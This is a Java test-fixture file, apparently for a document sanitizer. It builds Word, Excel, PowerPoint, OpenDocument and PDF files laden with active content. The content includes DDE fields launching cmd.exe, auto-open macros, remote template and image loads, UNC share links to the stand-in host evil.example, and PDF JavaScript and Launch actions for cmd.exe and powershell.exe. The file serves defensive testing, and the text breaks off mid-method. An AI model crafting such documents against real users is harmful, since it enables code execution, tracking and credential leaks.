package org.sandyq.sanitizer;

import static org.sandyq.sanitizer.Bin.ascii;
import static org.sandyq.sanitizer.Bin.cat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;

/**
 * Documents built the way an adversary would: every kind of content that loads, runs or sends
 * something when a lawyer opens the file, next to evidence text and a picture that must survive.
 * Outside addresses use the host {@code evil.example} (or a {@code \\evil} share), so a scan for
 * that host finds any that was left.
 */
final class ActiveFixtures {
  private ActiveFixtures() {}

  static final String EVIL = "evil.example";
  static final String WEB_LINK = "https://example.org/wages";
  static final String XML = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";
  static final String RELS = "http://schemas.openxmlformats.org/package/2006/relationships";
  static final String OD = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
  static final String MSREL = "http://schemas.microsoft.com/office/2006/relationships";
  static final String W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
  static final byte[] OLE = cat(new byte[] {(byte) 0xd0, (byte) 0xcf, 0x11, (byte) 0xe0, (byte) 0xa1, (byte) 0xb1, 0x1a, (byte) 0xe1},
      new byte[504], ascii("SQMK-ole-author Company SQMK-ole-company MZ\u0090"));
  static final String DOCX_TEXT = "EVIDENCE-ACTIVE the employer kept the passports";

  static String rel(String id, String type, String target, boolean external) {
    return "<Relationship Id=\"" + id + "\" Type=\"" + type + "\" Target=\"" + target + "\""
        + (external ? " TargetMode=\"External\"" : "") + "/>";
  }

  static String rels(String... relationships) {
    return XML + "<Relationships xmlns=\"" + RELS + "\">" + String.join("", relationships) + "</Relationships>";
  }

  static String types(String mainPart, String mainType, String... overrides) {
    StringBuilder s = new StringBuilder(XML + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
        + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
        + "<Default Extension=\"png\" ContentType=\"image/png\"/>"
        + "<Default Extension=\"bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>"
        + "<Override PartName=\"/" + mainPart + "\" ContentType=\"" + mainType + "\"/>");
    for (int i = 0; i < overrides.length; i += 2) {
      s.append("<Override PartName=\"/").append(overrides[i]).append("\" ContentType=\"").append(overrides[i + 1]).append("\"/>");
    }
    return s.append("</Types>").toString();
  }

  /** A complex field whose instruction is split over two runs, with a result run. */
  static String field(String part1, String part2, String result) {
    return "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\">" + part1
        + "</w:instrText></w:r><w:r><w:instrText xml:space=\"preserve\">" + part2 + "</w:instrText></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>" + result + "</w:t></w:r>"
        + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
  }

  /** A Word document with a plain docx content type and every active-content class of Word inside. */
  static byte[] docx() {
    return docx("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml");
  }

  static byte[] docx(String mainType) {
    String doc = XML + "<w:document xmlns:w=\"" + W + "\" xmlns:r=\"" + OD + "\""
        + " xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\""
        + " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><w:body>"
        + "<w:p><w:r><w:t>" + DOCX_TEXT + "</w:t></w:r></w:p>"
        // loads a picture from outside on opening, split so that no single run says INCLUDEPICTURE
        + "<w:p>" + field(" INCLUDE", "PICTURE \"http://" + EVIL + "/p.png\" \\d ", "EVIDENCE-ACTIVE-field-result") + "</w:p>"
        + "<w:p>" + field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" ", "EVIDENCE-ACTIVE-dde-result") + "</w:p>"
        + "<w:p><w:fldSimple w:instr=\" INCLUDETEXT &quot;\\\\\\\\" + EVIL + "\\\\share\\\\x.docx&quot; \"><w:r><w:t>EVIDENCE-ACTIVE-simple-result</w:t></w:r></w:fldSimple></w:p>"
        + "<w:p><w:fldSimple w:instr=\" PAGE \"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>"
        // hyperlinks to a share that a reader of quoted addresses alone would take for safe: unquoted, and after a switch
        + "<w:p>" + field(" HYPERLINK file://", EVIL + "/share/x.doc ", "EVIDENCE-ACTIVE-unquoted-link") + "</w:p>"
        + "<w:p>" + field(" HYPERLINK \\o \"tip\" ", "\"\\\\\\\\" + EVIL + "\\\\s\\\\x.doc\" ", "EVIDENCE-ACTIVE-switch-link") + "</w:p>"
        + "<w:p>" + field(" HYPERLINK \\lplace ", "\"file://" + EVIL + "/share/y.doc\" ", "EVIDENCE-ACTIVE-attached-switch") + "</w:p>"
        + "<w:p><w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>EVIDENCE-ACTIVE-weblink</w:t></w:r></w:hyperlink>"
        + "<w:hyperlink r:id=\"rIdFile\"><w:r><w:t>EVIDENCE-ACTIVE-filelink</w:t></w:r></w:hyperlink></w:p>"
        + "<w:p><w:r><w:drawing><a:blip r:embed=\"rIdPic\"/></w:drawing></w:r>"
        + "<w:r><w:drawing><a:blip r:link=\"rIdRemote\"/></w:drawing></w:r></w:p>"
        + "<w:p><w:r><w:object><v:shape><v:imagedata r:id=\"rIdPic\" o:title=\"\"/></v:shape>"
        + "<o:OLEObject Type=\"Embed\" ProgID=\"Package\" r:id=\"rIdOle\"/></w:object></w:r></w:p>"
        + "<w:p><w:r><w:object><o:OLEObject Type=\"Link\" ProgID=\"Excel.Sheet.12\" r:id=\"rIdOleLink\" UpdateMode=\"Always\"/></w:object></w:r></w:p>"
        + "<w:p><w:r><w:control r:id=\"rIdAx\" w:name=\"TextBox1\"/></w:r></w:p>"
        + "</w:body></w:document>";
    String docRels = rels(
        rel("rIdWeb", OD + "/hyperlink", WEB_LINK, true),
        rel("rIdFile", OD + "/hyperlink", "file:///\\\\" + EVIL + "\\share\\x.exe", true),
        rel("rIdPic", OD + "/image", "media/image1.png", false),
        rel("rIdRemote", OD + "/image", "http://" + EVIL + "/track.png", true),
        rel("rIdOle", OD + "/oleObject", "embeddings/oleObject1.bin", false),
        rel("rIdOleLink", OD + "/oleObject", "file:///\\\\" + EVIL + "\\share\\wages.xlsx", true),
        rel("rIdAx", OD + "/control", "activeX/activeX1.xml", false),
        rel("rIdVba", MSREL + "/vbaProject", "vbaProject.bin", false),
        rel("rIdHidden", MSREL + "/vbaProject", "data.bin", false),
        rel("rIdPkg", OD + "/package", "embeddings/Microsoft_Word_Document.docx", false),
        rel("rIdExe", OD + "/package", "embeddings/payload.exe", false),
        rel("rIdSet", OD + "/settings", "settings.xml", false));
    String settings = XML + "<w:settings xmlns:w=\"" + W + "\" xmlns:r=\"" + OD + "\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>";
    String settingsRels = rels(rel("rId1", OD + "/attachedTemplate", "http://" + EVIL + "/Normal.dotm", true));
    String pkgRels = rels(rel("rId1", OD + "/officeDocument", "word/document.xml", false),
        rel("rId2", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml", false),
        rel("rId3", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml", false));
    // an Office add-in whose task pane opens with the document and loads the add-in's page, told
    // by the document's own settings which address to show
    String taskpanes = XML + "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\">"
        + "<wetp:taskpane visibility=\"1\" dockstate=\"right\" width=\"350\" row=\"0\"><wetp:webextensionref xmlns:r=\"" + OD
        + "\" r:id=\"rId1\"/></wetp:taskpane></wetp:taskpanes>";
    String webextension = XML + "<we:webextension xmlns:we=\"http://schemas.microsoft.com/office/webextensions/webextension/2010/11\""
        + " id=\"{BA2A90E9-A2A3-4B7B-B654-337CF6A8E59C}\"><we:reference storeType=\"OMEX\" id=\"wa104042886\" store=\"en-us\""
        + " version=\"1.0.0.0\"/><we:properties><we:property name=\"url\" value=\"&quot;http://" + EVIL + "/pane&quot;\"/>"
        + "</we:properties><we:bindings/><we:snapshot/></we:webextension>";
    String customUi = "<customUI xmlns=\"http://schemas.microsoft.com/office/2009/07/customui\" onLoad=\"AutoOpen\"/>";
    String activeX = XML + "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{8BD21D10-EC42-11CE-9E0D-00AA006002F3}\"/>";
    return Corpus.zip(false, new String[][] {
      {"[Content_Types].xml", types("word/document.xml", mainType)},
      {"_rels/.rels", pkgRels},
      {"word/document.xml", doc}, {"word/_rels/document.xml.rels", docRels},
      {"word/settings.xml", settings}, {"word/_rels/settings.xml.rels", settingsRels},
      {"word/media/image1.png", Corpus.b64(Corpus.encode(Corpus.picture(16, 12), "png"))},
      {"word/embeddings/oleObject1.bin", Corpus.b64(OLE)},
      {"word/embeddings/Microsoft_Word_Document.docx", Corpus.b64(Corpus.docx())},
      {"word/embeddings/payload.exe", Corpus.b64(cat(ascii("MZ\u0090\u0000"), new byte[64]))},
      {"word/activeX/activeX1.xml", activeX},
      {"word/activeX/activeX1.bin", Corpus.b64(OLE)},
      {"word/vbaProject.bin", Corpus.b64(OLE)},
      {"word/data.bin", Corpus.b64(OLE)},
      {"customUI/customUI14.xml", customUi},
      {"word/webextensions/taskpanes.xml", taskpanes},
      {"word/webextensions/_rels/taskpanes.xml.rels", rels(rel("rId1", "http://schemas.microsoft.com/office/2011/relationships/webextension",
          "webextension1.xml", false))},
      {"word/webextensions/webextension1.xml", webextension},
    });
  }

  /**
   * Found by review: relationships that pass for what they are not. A picture linked from outside
   * through a relationship typed "hyperlink" (kept for links: LibreOffice fetched it on opening), a
   * VML picture the same way, and people's names in parts found only by their relationship's type
   * (a list of people and custom XML under unusual names, as a hostile or unusual writer makes).
   */
  static byte[] docxWithDisguisedRelationships() {
    return docxWithDisguisedRelationships("word/_rels/document.xml.rels");
  }

  /** The same with the main part's relationships under {@code relsName} (Office matches part names without case). */
  static byte[] docxWithDisguisedRelationships(String relsName) {
    String doc = XML + "<w:document xmlns:w=\"" + W + "\" xmlns:r=\"" + OD + "\""
        + " xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\"><w:body>"
        + "<w:p><w:r><w:t>" + DOCX_TEXT + "</w:t></w:r></w:p>"
        + "<w:p><w:hyperlink r:id=\"rIdWeb\"><w:r><w:t>EVIDENCE-ACTIVE-weblink</w:t></w:r></w:hyperlink></w:p>"
        + "<w:p><w:r><w:drawing><a:blip r:embed=\"rIdPic\"/></w:drawing></w:r>"
        + "<w:r><w:drawing><a:blip r:link=\"rIdLink\"/></w:drawing></w:r></w:p>"
        + "</w:body></w:document>";
    String docRels = rels(
        rel("rIdWeb", OD + "/hyperlink", WEB_LINK, true),
        rel("rIdLink", OD + "/hyperlink", "https://" + EVIL + "/linked.png", true),
        rel("rIdPic", OD + "/image", "media/image1.png", false),
        rel("rIdPeople", "http://schemas.microsoft.com/office/2011/relationships/people", "persons.xml", false),
        rel("rIdHdr", OD + "/header", "header1.xml", false));
    String header = XML + "<w:hdr xmlns:w=\"" + W + "\" xmlns:r=\"" + OD + "\" xmlns:v=\"urn:schemas-microsoft-com:vml\""
        + " xmlns:o=\"urn:schemas-microsoft-com:office:office\"><w:p><w:r><w:pict><v:shape><v:imagedata o:relid=\"rIdVml\"/>"
        + "</v:shape></w:pict></w:r></w:p></w:hdr>";
    String headerRels = rels(rel("rIdVml", OD + "/hyperlink", "https://" + EVIL + "/header.png", true));
    String people = XML + "<w15:people xmlns:w15=\"http://schemas.microsoft.com/office/word/2012/wordml\"><w15:person"
        + " w15:author=\"SQMK-people-author\"><w15:presenceInfo w15:providerId=\"AD\" w15:userId=\"S::SQMK-user@example.org::1\"/>"
        + "</w15:person></w15:people>";
    String custom = XML + "<p:properties xmlns:p=\"http://schemas.microsoft.com/office/2006/metadata/properties\">"
        + "<DisplayName>SQMK-customxml-name</DisplayName></p:properties>";
    String pkgRels = rels(rel("rId1", OD + "/officeDocument", "word/document.xml", false),
        rel("rId2", OD + "/customXml", "data/item1.xml", false));
    return Corpus.zip(false, new String[][] {
      {"[Content_Types].xml", types("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")},
      {"_rels/.rels", pkgRels},
      {"word/document.xml", doc}, {relsName, docRels},
      {"word/header1.xml", header}, {"word/_rels/header1.xml.rels", headerRels},
      {"word/persons.xml", people},
      {"data/item1.xml", custom},
      {"word/media/image1.png", Corpus.b64(Corpus.encode(Corpus.picture(16, 12), "png"))},
    });
  }

  /**
   * Found by review: a slide's picture linked through a "hyperlink" relationship, a link that
   * opens when the pointer passes over a shape, and a workbook's cell comments where openpyxl
   * writes them ({@code xl/comments/comment1.xml}), with their author.
   */
  static byte[] pptxWithHoverAndDisguisedLink() {
    String p = "http://schemas.openxmlformats.org/presentationml/2006/main";
    String slide = XML + "<p:sld xmlns:p=\"" + p + "\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
        + " xmlns:r=\"" + OD + "\"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Title\">"
        + "<a:hlinkClick r:id=\"rIdWeb\"/><a:hlinkHover r:id=\"rIdHover\"/></p:cNvPr></p:nvSpPr><p:txBody><a:p><a:r>"
        + "<a:rPr><a:hlinkMouseOver r:id=\"rIdOver\"/></a:rPr><a:t>" + PPTX_TEXT + "</a:t></a:r></a:p>"
        + "</p:txBody></p:sp><p:pic><p:blipFill><a:blip r:link=\"rIdLink\"/></p:blipFill></p:pic></p:spTree></p:cSld></p:sld>";
    return Corpus.zip(false, new String[][] {
      {"[Content_Types].xml", types("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")},
      {"_rels/.rels", rels(rel("rId1", OD + "/officeDocument", "ppt/presentation.xml", false))},
      {"ppt/presentation.xml", XML + "<p:presentation xmlns:p=\"" + p + "\" xmlns:r=\"" + OD + "\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst></p:presentation>"},
      {"ppt/_rels/presentation.xml.rels", rels(rel("rId1", OD + "/slide", "slides/slide1.xml", false))},
      {"ppt/slides/slide1.xml", slide},
      {"ppt/slides/_rels/slide1.xml.rels", rels(rel("rIdWeb", OD + "/hyperlink", WEB_LINK, true),
          rel("rIdHover", OD + "/hyperlink", "https://" + EVIL + "/hover", true),
          rel("rIdOver", OD + "/hyperlink", "https://" + EVIL + "/over", true),
          rel("rIdLink", OD + "/hyperlink", "https://" + EVIL + "/slide.png", true))},
    });
  }

  /** A workbook whose cell comments (and their author) are where openpyxl writes them. */
  static byte[] xlsxWithCommentsElsewhere() {
    String s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    String workbook = XML + "<workbook xmlns=\"" + s + "\" xmlns:r=\"" + OD + "\">"
        + "<sheets><sheet name=\"Wages\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>";
    String sheet = XML + "<worksheet xmlns=\"" + s + "\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + XLSX_TEXT
        + "</t></is></c></row></sheetData></worksheet>";
    String comments = XML + "<comments xmlns=\"" + s + "\"><authors><author>SQMK-openpyxl-author</author></authors>"
        + "<commentList><comment ref=\"A1\" authorId=\"0\"><text><t>owed since March</t></text></comment></commentList></comments>";
    return Corpus.zip(false, new String[][] {
      {"[Content_Types].xml", types("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
          "xl/comments/comment1.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml")},
      {"_rels/.rels", rels(rel("rId1", OD + "/officeDocument", "xl/workbook.xml", false))},
      {"xl/workbook.xml", workbook},
      {"xl/_rels/workbook.xml.rels", rels(rel("rId1", OD + "/worksheet", "worksheets/sheet1.xml", false))},
      {"xl/worksheets/sheet1.xml", sheet},
      {"xl/worksheets/_rels/sheet1.xml.rels", rels(rel("rId1", OD + "/comments", "../comments/comment1.xml", false))},
      {"xl/comments/comment1.xml", comments},
    });
  }

  static final String XLSX_TEXT = "EVIDENCE-ACTIVE wages owed 1200";

  /** A macro-enabled workbook: a macro sheet, a link to another workbook, a web query, VBA. */
  static byte[] xlsm() {
    String s = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    String workbook = XML + "<workbook xmlns=\"" + s + "\" xmlns:r=\"" + OD + "\"><fileSharing userName=\"SQMK-xlsx-sharing-user\"/>"
        + "<sheets><sheet name=\"Wages\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Macro1\" sheetId=\"2\" r:id=\"rId2\"/></sheets>"
        + "<definedNames><definedName name=\"Total\">Wages!$A$1</definedName></definedNames>"
        + "<externalReferences><externalReference r:id=\"rId3\"/></externalReferences></workbook>";
    String sheet = XML + "<worksheet xmlns=\"" + s + "\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>" + XLSX_TEXT
        + "</t></is></c></row></sheetData></worksheet>";
    String macro = XML + "<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"/>";
    String link = XML + "<externalLink xmlns=\"" + s + "\" xmlns:r=\"" + OD + "\"><externalBook r:id=\"rId1\"/></externalLink>";
    String wbRels = rels(rel("rId1", OD + "/worksheet", "worksheets/sheet1.xml", false),
        rel("rId2", MSREL + "/xlMacrosheet", "macrosheets/sheet2.xml", false),
        rel("rId3", OD + "/externalLink", "externalLinks/externalLink1.xml", false),
        rel("rId4", OD + "/connections", "connections.xml", false),
        rel("rId5", MSREL + "/vbaProject", "vbaProject.bin", false));
    String connections = XML + "<connections xmlns=\"" + s + "\"><connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\">"
        + "<webPr url=\"http://" + EVIL + "/q\"/></connection></connections>";
    return Corpus.zip(false, new String[][] {
      {"[Content_Types].xml", types("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
          "xl/macrosheets/sheet2.xml", "application/vnd.ms-excel.macrosheet+xml")},
      {"_rels/.rels", rels(rel("rId1", OD + "/officeDocument", "xl/workbook.xml", false))},
      {"xl/workbook.xml", workbook}, {"xl/_rels/workbook.xml.rels", wbRels},
      {"xl/worksheets/sheet1.xml", sheet}, {"xl/macrosheets/sheet2.xml", macro},
      {"xl/externalLinks/externalLink1.xml", link},
      {"xl/externalLinks/_rels/externalLink1.xml.rels", rels(rel("rId1", OD + "/externalLinkPath", "file:///\\\\" + EVIL + "\\share\\other.xlsx", true))},
      {"xl/connections.xml", connections},
      {"xl/vbaProject.bin", Corpus.b64(OLE)},
    });
  }

  static final String PPTX_TEXT = "EVIDENCE-ACTIVE raid on 2 November";

  /** A presentation with a picture linked from outside and comment authors. */
  static byte[] pptx() {
    String p = "http://schemas.openxmlformats.org/presentationml/2006/main";
    String slide = XML + "<p:sld xmlns:p=\"" + p + "\" xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\""
        + " xmlns:r=\"" + OD + "\"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r><a:t>" + PPTX_TEXT + "</a:t></a:r></a:p>"
        + "</p:txBody></p:sp><p:pic><p:blipFill><a:blip r:link=\"rId2\"/></p:blipFill></p:pic></p:spTree></p:cSld></p:sld>";
    String authors = XML + "<p:cmAuthorLst xmlns:p=\"" + p + "\"><p:cmAuthor id=\"0\" name=\"SQMK-pptx-author\" initials=\"SQ\"/></p:cmAuthorLst>";
    return Corpus.zip(false, new String[][] {
      {"[Content_Types].xml", types("ppt/presentation.xml", "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml")},
      {"_rels/.rels", rels(rel("rId1", OD + "/officeDocument", "ppt/presentation.xml", false))},
      {"ppt/presentation.xml", XML + "<p:presentation xmlns:p=\"" + p + "\" xmlns:r=\"" + OD + "\"><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst></p:presentation>"},
      {"ppt/_rels/presentation.xml.rels", rels(rel("rId1", OD + "/slide", "slides/slide1.xml", false),
          rel("rId2", OD + "/commentAuthors", "commentAuthors.xml", false))},
      {"ppt/slides/slide1.xml", slide},
      {"ppt/slides/_rels/slide1.xml.rels", rels(rel("rId2", OD + "/image", "\\\\" + EVIL + "\\share\\logo.png", true))},
      {"ppt/commentAuthors.xml", authors},
    });
  }

  static final String ODT_TEXT = "EVIDENCE-ACTIVE the police came with the employer";

  /** An OpenDocument text with a linked picture, macros bound to events, DDE, an applet and an OLE object. */
  static byte[] odt() {
    String ns = " xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
        + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\""
        + " xmlns:draw=\"urn:oasis:names:tc:opendocument:xmlns:drawing:1.0\""
        + " xmlns:xlink=\"http://www.w3.org/1999/xlink\" xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
        + " xmlns:dc=\"http://purl.org/dc/elements/1.1/\" xmlns:meta=\"urn:oasis:names:tc:opendocument:xmlns:meta:1.0\""
        + " xmlns:form=\"urn:oasis:names:tc:opendocument:xmlns:form:1.0\" xmlns:xforms=\"http://www.w3.org/2002/xforms\"";
    String content = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content" + ns + " office:version=\"1.3\">"
        + "<office:scripts><office:event-listeners><script:event-listener script:language=\"ooo:script\" script:event-name=\"dom:load\""
        + " xlink:href=\"vnd.sun.star.script:Standard.Module1.AutoOpen?language=Basic&amp;location=document\"/></office:event-listeners></office:scripts>"
        + "<office:body><office:text>"
        + "<text:dde-connection-decls><text:dde-connection-decl office:name=\"x\" office:dde-application=\"cmd\" office:dde-topic=\"/c calc\" office:dde-item=\"a\" office:automatic-update=\"true\"/></text:dde-connection-decls>"
        // found by review: a form button's picture and an XForms instance load from outside without xlink
        + "<office:forms><form:form form:name=\"f\"><form:button form:name=\"b\" form:id=\"b1\""
        + " form:image-data=\"http://" + EVIL + "/button.png\"/></form:form>"
        + "<xforms:model><xforms:instance src=\"http://" + EVIL + "/instance.xml\"/></xforms:model></office:forms>"
        + "<text:p>" + ODT_TEXT + "</text:p>"
        + "<text:p><text:a xlink:type=\"simple\" xlink:href=\"" + WEB_LINK + "\">EVIDENCE-ACTIVE-weblink</text:a>"
        + "<text:a xlink:type=\"simple\" xlink:href=\"vnd.sun.star.script:Tools.Debug.Run?language=Basic&amp;location=application\">EVIDENCE-ACTIVE-macrolink</text:a></text:p>"
        + "<text:p><draw:frame><draw:image xlink:href=\"http://" + EVIL + "/track.png\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame>"
        + "<draw:frame><draw:image xlink:href=\"Pictures/photo.png\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame>"
        + "<draw:frame><draw:object-ole xlink:href=\"./Object 1\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/>"
        + "<draw:image xlink:href=\"./ObjectReplacements/Object 1\" xlink:type=\"simple\"/></draw:frame>"
        + "<draw:frame><draw:object xlink:href=\"./Object 2\" xlink:type=\"simple\" xlink:show=\"embed\" xlink:actuate=\"onLoad\"/></draw:frame>"
        + "<draw:frame><draw:applet draw:code=\"Evil.class\" xlink:href=\"http://" + EVIL + "/applet/\"/></draw:frame></text:p>"
        + "<text:section text:name=\"s\"><text:section-source xlink:href=\"file:///\\\\" + EVIL + "\\share\\x.odt\"/></text:section>"
        + "<text:p>EVIDENCE-ACTIVE-comment-anchor<office:annotation><dc:creator>SQMK-odt-comment-author</dc:creator><text:p>x</text:p></office:annotation></text:p>"
        + "</office:text></office:body></office:document-content>";
    String objectMeta = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-meta" + ns + " office:version=\"1.3\"><office:meta>"
        + "<dc:creator>SQMK-odt-object-creator</dc:creator><meta:initial-creator>SQMK-odt-object-initial</meta:initial-creator></office:meta></office:document-meta>";
    String objectContent = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content" + ns + " office:version=\"1.3\"><office:body><office:chart/></office:body></office:document-content>";
    String manifest = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">"
        + "<manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>"
        + "<manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>"
        + "<manifest:file-entry manifest:full-path=\"Pictures/photo.png\" manifest:media-type=\"image/png\"/>"
        + "<manifest:file-entry manifest:full-path=\"Object 1\" manifest:media-type=\"application/vnd.sun.star.oleobject\"/>"
        + "<manifest:file-entry manifest:full-path=\"ObjectReplacements/Object 1\" manifest:media-type=\"application/x-openoffice-wmf;windows_formatname=&quot;Image WMF&quot;\"/>"
        + "<manifest:file-entry manifest:full-path=\"Object 2/\" manifest:media-type=\"application/vnd.oasis.opendocument.chart\"/>"
        + "<manifest:file-entry manifest:full-path=\"Object 2/meta.xml\" manifest:media-type=\"text/xml\"/>"
        + "<manifest:file-entry manifest:full-path=\"Object 2/content.xml\" manifest:media-type=\"text/xml\"/>"
        + "<manifest:file-entry manifest:full-path=\"Basic/\" manifest:media-type=\"\"/>"
        + "<manifest:file-entry manifest:full-path=\"Basic/Standard/Module1.xml\" manifest:media-type=\"text/xml\"/>"
        + "</manifest:manifest>";
    String module = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\" script:language=\"StarBasic\">Sub AutoOpen\nShell(&quot;calc&quot;)\nEnd Sub</script:module>";
    return Corpus.zip(true, new String[][] {
      {"mimetype", "application/vnd.oasis.opendocument.text"},
      {"content.xml", content},
      {"Pictures/photo.png", Corpus.b64(Corpus.encode(Corpus.picture(16, 12), "png"))},
      {"Object 1", Corpus.b64(OLE)},
      // a placeable WMF: its header, the standard header, and only the end-of-file record
      {"ObjectReplacements/Object 1", Corpus.b64(java.util.HexFormat.of().parseHex(
          "d7cdc69a00000000000064006400a0050000000000000100090000030c0000000000030000000000030000000000"))},
      {"Object 2/meta.xml", objectMeta}, {"Object 2/content.xml", objectContent},
      {"Basic/Standard/Module1.xml", module},
      {"META-INF/manifest.xml", manifest},
    });
  }

  static final String PDF_TEXT = "EVIDENCE-ACTIVE wages unpaid since March";

  private static COSDictionary action(String type, String key, COSString value) {
    COSDictionary a = new COSDictionary();
    a.setName(COSName.TYPE, "Action");
    a.setName(COSName.S, type);
    if (key != null) {
      a.setItem(COSName.getPDFName(key), value);
    }
    return a;
  }

  private static COSDictionary link(float x, COSDictionary action) {
    COSDictionary l = new COSDictionary();
    l.setName(COSName.TYPE, "Annot");
    l.setName(COSName.SUBTYPE, "Link");
    COSArray rect = new COSArray();
    for (float v : new float[] {x, 10, x + 20, 30}) {
      rect.add(new org.apache.pdfbox.cos.COSFloat(v));
    }
    l.setItem(COSName.RECT, rect);
    l.setItem(COSName.A, action);
    return l;
  }

  /** The page's contents, started with the evidence text that must survive cleaning. */
  private static PDPageContentStream evidence(PDDocument doc, PDPage page) throws IOException {
    PDPageContentStream cs = new PDPageContentStream(doc, page, PDPageContentStream.AppendMode.OVERWRITE, false);
    cs.beginText();
    cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 10);
    cs.newLineAtOffset(20, 300);
    cs.showText(PDF_TEXT);
    cs.endText();
    return cs;
  }

  /** A PDF that opens a web address when opened, runs scripts, launches, submits, carries XFA and a program. */
  static byte[] pdf() {
    try (PDDocument doc = new PDDocument()) {
      PDPage page = new PDPage(PDRectangle.A6);
      doc.addPage(page);
      evidence(doc, page).close();
      COSDictionary catalog = doc.getDocumentCatalog().getCOSObject();
      COSDictionary open = action("URI", "URI", new COSString("http://" + EVIL + "/opened"));
      open.setItem(COSName.NEXT, action("JavaScript", "JS", new COSString("app.launchURL('http://" + EVIL + "/js')")));
      catalog.setItem(COSName.OPEN_ACTION, open);
      COSDictionary aa = new COSDictionary();
      aa.setItem(COSName.getPDFName("O"), action("URI", "URI", new COSString("http://" + EVIL + "/page-open")));
      page.getCOSObject().setItem(COSName.AA, aa);
      COSDictionary gotor = action("GoToR", "F", new COSString("\\\\" + EVIL + "\\share\\x.pdf"));
      COSDictionary launch = action("Launch", "F", new COSString("cmd.exe"));
      COSArray annots = new COSArray();
      COSDictionary web = action("URI", "URI", new COSString(WEB_LINK));
      COSArray chain = new COSArray(); // a click on the web link would also launch a program and open a share
      chain.add(action("Launch", "F", new COSString("powershell.exe")));
      chain.add(action("URI", "URI", new COSString("file:///\\\\" + EVIL + "\\chained")));
      web.setItem(COSName.NEXT, chain);
      annots.add(link(10, web));
      annots.add(link(40, gotor));
      annots.add(link(70, launch));
